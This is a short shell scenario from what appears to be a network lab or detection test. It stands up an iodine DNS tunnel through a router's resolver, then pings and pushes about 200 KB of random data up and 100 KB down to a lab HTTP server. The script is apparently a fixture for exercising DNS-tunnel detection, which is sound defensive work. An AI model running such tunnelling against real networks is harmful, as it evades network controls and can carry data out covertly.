# Attack: an IP-over-DNS tunnel. The laptop runs the iodine client through the router's
# resolver (which forwards the tunnel zone to iodined on the internet), then pings and
# moves ~200 KB up and ~100 KB down through the tunnel.
DESCRIPTION="iodine through the router's DNS to iodined; ping + 200 KB up + 100 KB down inside"

tunnel_up() { nsx laptop ip -4 -o addr show dev dns0 | grep -q 10.99.0.; }

scenario() {
    bgjob inet tunnel-http "$PY" "$LAB_PY" http 10.99.0.1 8080
    bgjob laptop iodine iodine -f -r -P "$IODINE_PW" "$ROUTER_IP" "$TUNNEL_ZONE"
    wait_for "iodine tunnel" 40 tunnel_up
    nsx laptop ping -c 5 -i 0.5 10.99.0.1 >/dev/null || true
    head -c 200000 /dev/urandom >"$STATE/tunnel-upload.bin"
    nsx laptop curl -s -o /dev/null --max-time 60 -T "$STATE/tunnel-upload.bin" http://10.99.0.1:8080/up || true
    nsx laptop curl -s -o /dev/null --max-time 60 "http://10.99.0.1:8080/data/$(printf 'x%.0s' {1..8})" || true
    sleep 1
    stop_job iodine
    stop_job tunnel-http
}
